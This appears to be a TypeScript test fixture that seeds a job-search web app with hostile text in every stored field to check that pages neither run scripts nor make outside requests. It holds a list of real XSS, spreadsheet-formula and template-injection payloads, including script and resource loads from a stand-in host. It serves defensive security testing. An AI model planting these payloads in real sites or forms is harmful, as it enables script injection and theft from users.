import { runOn } from '#libs/database/testing/test-database.js';
import type { RecordValue } from '#libs/registry/field.js';
import { definitionOf, definitions } from '#libs/registry/records/definitions.js';
import { recordPreparer } from '#libs/search/store/prepare-record.js';
import { testJob, testSource } from '#libs/search/testing/test-dataset.js';
import { Site } from './site.js';
import { createTeam, signIn, type Team } from './team.js';

/** Part of each hostile text, by which pages that show one are known. */
export const MARK = 'Zorblat';

/** Where a text would reach if a browser requested anything for it. */
const ELSEWHERE = 'https://else.example';

/** Texts that would set `window.hacked`, request something, or be evaluated by a spreadsheet. Each is short enough for a name. */
export const HOSTILE = [
  `=1+1 ${MARK} <img src=x onerror=hacked=1>`,
  `+1 ${MARK} <svg/onload=hacked=1><use href=data:,x>`,
  `-1 ${MARK} </script><script>hacked=1</script>`,
  `@SUM(1) ${MARK} <script src=${ELSEWHERE}/s></script>`,
  `=1 ${MARK} <style>@import url(${ELSEWHERE}/c)</style>`,
  `＝1 ${MARK} <img src=${ELSEWHERE}/p style=background:url(${ELSEWHERE}/b)>`,
  `=1 ${MARK} 'onfocus='hacked=1' autofocus='`,
  `javascript:hacked=1//${MARK}`,
  `\u202E=1 ${MARK} \u2066{{constructor.constructor('hacked=1')()}}`,
] as const;

const all = HOSTILE.join(' ');

const POST = `<h1>${MARK}</h1>${all}<a href="javascript:hacked=1">a</a><a href="data:text/html,<script>hacked=1</script>">b</a>
  <form action="${ELSEWHERE}/f"><button formaction="javascript:hacked=1">c</button></form><iframe src="${ELSEWHERE}/i"></iframe>
  <iframe srcdoc="<script>parent.hacked=1</script>"></iframe><link rel="stylesheet" href="${ELSEWHERE}/l"><base href="${ELSEWHERE}/">
  <meta http-equiv="refresh" content="0;url=${ELSEWHERE}/m"><object data="${ELSEWHERE}/o"></object><embed src="${ELSEWHERE}/e">
  <video src="${ELSEWHERE}/v" poster="${ELSEWHERE}/w"></video><math href="javascript:hacked=1"><mtext>d</mtext></math>
  <svg><a xlink:href="javascript:hacked=1"><text>e</text></a><set attributeName="href" to="javascript:hacked=1"/></svg>
  <noscript><p title="</noscript><img src=x onerror=hacked=1>"></noscript><template><script>hacked=1</script></template>`;

const prepare = recordPreparer(definitions);

/** A record whose every field has a hostile text that accepts one, alone or in a list. @param kept fields that stay as they are. */
const hostile = (kind: string, record: RecordValue, kept: readonly string[]): RecordValue => {
  const fields = definitionOf(definitions, kind).fields.filter(({ name }) => !kept.includes(name));
  const texts = fields.flatMap(({ name }, i): [string, RecordValue[string]][] => {
    const text = HOSTILE[i % HOSTILE.length] as string;
    const candidates = [text, [text], 'javascript:hacked=1'];
    const accepted = candidates.find((value) => prepare(kind, { ...record, [name]: value }).ok);
    return accepted === undefined ? [] : [[name, accepted]];
  });
  return { ...record, ...Object.fromEntries(texts) };
};

/** Text columns of Postgres that people, programs or browsers fill in and pages show. */
const STORED = [
  ['organizations', 'name'],
  ['users', 'name'],
  ['api_tokens', 'name'],
  ['collections', 'name'],
  ['sessions', 'user_agent'],
  ['watches', 'name'],
  ['saved_items', 'name'],
  ['visited_places', 'label'],
] as const;

/** A site whose every stored text is hostile. */
export interface HostileSite {
  readonly site: Site;
  readonly team: Team;
  readonly sourceId: string;
  readonly jobId: string;
  readonly collectionId: string;
  readonly watchId: string;
  readonly viewId: string;
  readonly boardId: string;
  /** The secrets of an open invitation, and of an open reset of a password. */
  readonly invitation: string;
  readonly reset: string;
}

export const startHostileSite = async (): Promise<HostileSite> => {
  const [source, blocked] = [0, 1].map(() => hostile('sources', testSource(), ['id', 'url_source'])) as [
    RecordValue,
    RecordValue,
  ];
  const sourceId = source['id'] as string;
  const jobs = HOSTILE.map((title) => ({
    ...hostile('jobs', testJob({ source: sourceId }), ['id', 'source', 'raw_details']),
    title,
    post: POST,
  }));
  const [jobId = '', hiddenId = ''] = jobs.map((job) => (job as RecordValue)['id'] as string);
  const window = { from: '2026-07-20', to: '2026-08-08' };
  const signal = {
    ...{
      id: `G${'0'.repeat(32)}`,
      type: 'new_department',
      source: sourceId,
      detected_at: '2026-08-08T00:00:00.000Z',
      window,
    },
    ...{
      baseline: { value: 4, method: 'negative_binomial', n: 60 },
      observed: 12,
      change: 2,
      strength: 0.4,
      rule_version: 1,
    },
    segment: { dimension: 'departments', value: HOSTILE[0], label: HOSTILE[1] },
    evidence: { job_ids: [jobId] },
  };
  const site = await Site.start({ jobs, sources: [source, blocked], computed: { signals: [signal] } });
  return fill(site, { sourceId, jobId, hiddenId, blockedId: blocked['id'] as string }).catch(async (error: unknown) => {
    await site.stop();
    throw error;
  });
};

interface RecordIds {
  readonly sourceId: string;
  readonly jobId: string;
  readonly hiddenId: string;
  readonly blockedId: string;
}

const fill = async (site: Site, { sourceId, jobId, hiddenId, blockedId }: RecordIds): Promise<HostileSite> => {
  const team = await createTeam(site, {
    rateTier: 'tier_3',
    billingMode: 'credits',
    purchasedCredits: 50_000,
  } as never);
  await runOn(site.databaseUrl, `UPDATE organizations SET product_plan = 'enterprise'`);
  const admin = await signIn(site, team.admin);
  const post = async (path: string, data: object = {}) => {
    const response = await admin.request.post(`/dashboard/api${path}`, { data });
    if (!response.ok()) throw new Error(`${path}: ${await response.text()}`);
    return (await response.json()) as Record<string, string>;
  };
  const secretOf = ({ link = '' }: Record<string, string>) => link.split('/').at(-1) as string;
  // The audit log has the names as they were when something was done.
  for (const name of HOSTILE) {
    const { id } = await post('/tokens', { name });
    await admin.request.delete(`/dashboard/api/tokens/${id}`);
  }
  await post('/tokens', { name: HOSTILE[0] });
  let collectionId = '';
  for (const name of HOSTILE) ({ id: collectionId = '' } = await post('/collections', { name }));
  await post(`/collections/${collectionId}/sources`, { source_ids: [sourceId] });
  await post(`/blocked-sources/${blockedId}`);
  await post(`/hidden-jobs/${hiddenId}`);
  const [first] = await runOn(site.databaseUrl, 'SELECT id FROM users WHERE email = $1', [team.member]);
  const reset = secretOf(await post(`/members/${(first as { id: string }).id}/password-reset`));
  const invitation = secretOf(await post('/invitations', { email: 'grace@example.com', role: 'member' }));
  const send = async (path: string, data: object) => {
    const response = await admin.request.post(path, { data, headers: { authorization: team.token } });
    if (!response.ok()) throw new Error(`${path}: ${await response.text()}`);
    return ((await response.json()) as { id: string }).id;
  };
  const watchId = await send('/v4/watches', { name: HOSTILE[0], kind: 'jobs', filters: { titles: HOSTILE[1] } });
  const search = { titles: HOSTILE[1], countries: HOSTILE[2], [HOSTILE[3]]: HOSTILE[4] };
  const { id: viewId = '' } = await post('/saved-views', { name: 'View', page: 'explore', search, shared: true });
  const figures = [{ figure: 'headline', search }];
  const { id: boardId = '' } = await post('/boards', { name: 'Board', figures, shared: true });
  await post('/visited-places', { page: 'explore', search, label: 'Postings' });
  await post('/visited-places', { page: 'company', slug: sourceId, search: {}, label: 'Company' });
  await send('/v4/webhooks', { url: `https://example.com/${MARK}`, watch_ids: [watchId] });
  await send('/v4/exports', { kind: 'jobs', parameters: { titles: HOSTILE[1] } });
  await runOn(
    site.databaseUrl,
    `INSERT INTO sso_providers (organization_id, issuer, client_id, client_secret, scope, role_claim, admin_values, member_values,
       without_role, creates_members, requires_verified_email)
     VALUES ($1, 'https://login.example.com/', $2, 'encrypted', 'openid', $2, $3, $3, 'refuse', true, true)`,
    [team.organizationId, HOSTILE[0], HOSTILE],
  );
  await admin.close();
  for (const [i, [table, column]] of STORED.entries())
    await runOn(
      site.databaseUrl,
      `UPDATE ${table} SET ${column} = $1 WHERE ${column} NOT LIKE $2 OR ${column} IS NULL`,
      [HOSTILE[i % HOSTILE.length], `%${MARK}%`],
    );
  return { site, team, sourceId, jobId, collectionId, watchId, viewId, boardId, invitation, reset };
};
